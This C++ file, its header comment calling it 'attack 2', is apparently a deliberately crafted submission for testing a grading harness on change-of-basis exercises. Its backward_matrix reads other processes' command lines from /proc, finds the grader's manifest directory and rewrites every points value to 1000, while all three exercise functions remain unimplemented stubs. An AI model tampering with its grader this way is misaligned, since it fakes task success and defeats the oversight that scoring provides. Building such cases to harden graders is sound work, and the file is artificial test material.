// Crafted submission (attack 2): finds the build tree from the runner's
// --binary argument and rewrites every manifest: 1000 points each. Its
// function is the unsolved stub.
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <string>
#include <system_error>
#include <vector>

#include <sys/prctl.h>
#include <sys/types.h>
#include <unistd.h>

#include "change_of_basis.hpp"

#include <dlmath/errors.hpp>

namespace fs = std::filesystem;

namespace {

// The command line of every process it can see, as (pid, arguments).
std::vector<std::pair<std::string, std::vector<std::string>>> command_lines() {
    std::vector<std::pair<std::string, std::vector<std::string>>> all;
    std::error_code ec;
    for (const auto& e : fs::directory_iterator("/proc", ec)) {
        const std::string pid = e.path().filename().string();
        if (pid.find_first_not_of("0123456789") != std::string::npos) continue;
        std::ifstream in(e.path() / "cmdline", std::ios::binary);
        std::string raw((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
        std::vector<std::string> args;
        std::string cur;
        for (char c : raw) {
            if (c == '\0') {
                args.push_back(cur);
                cur.clear();
            } else {
                cur += c;
            }
        }
        all.emplace_back(pid, args);
    }
    return all;
}

// The values that follow `option` (as `option VALUE` or `option=VALUE`/`optionVALUE`) in any command line.
std::vector<std::string> option_values(const std::string& option) {
    std::vector<std::string> found;
    for (const auto& [pid, args] : command_lines()) {
        for (std::size_t i = 0; i < args.size(); ++i) {
            if (args[i] == option && i + 1 < args.size()) found.push_back(args[i + 1]);
            else if (args[i].rfind(option, 0) == 0 && args[i].size() > option.size())
                found.push_back(args[i].substr(option.size() + (args[i][option.size()] == '=' ? 1 : 0)));
        }
    }
    return found;
}

}  // namespace

namespace dlmath::exercises {

Matrix backward_matrix(const Matrix&) {
    std::error_code ec;
    for (const std::string& binary : option_values("--binary")) {
        const fs::path manifests = fs::path(binary).parent_path().parent_path() / "manifest";
        for (const auto& e : fs::directory_iterator(manifests, ec)) {
            std::ifstream in(e.path());
            std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
            const auto at = text.find("\"points\": ");
            if (at != std::string::npos) text.replace(at, text.find(',', at) - at, "\"points\": 1000");
            std::ofstream(e.path()) << text;
        }
        std::ofstream(manifests / "TAMPERED_BY_SUBMISSION") << "tampered\n";
    }
    throw dlmath::not_implemented("backward_matrix");
}

Vector to_new_basis(const Matrix&, const Vector&) { throw dlmath::not_implemented("to_new_basis"); }
Matrix map_in_new_basis(const Matrix&, const Matrix&) { throw dlmath::not_implemented("map_in_new_basis"); }

}  // namespace dlmath::exercises
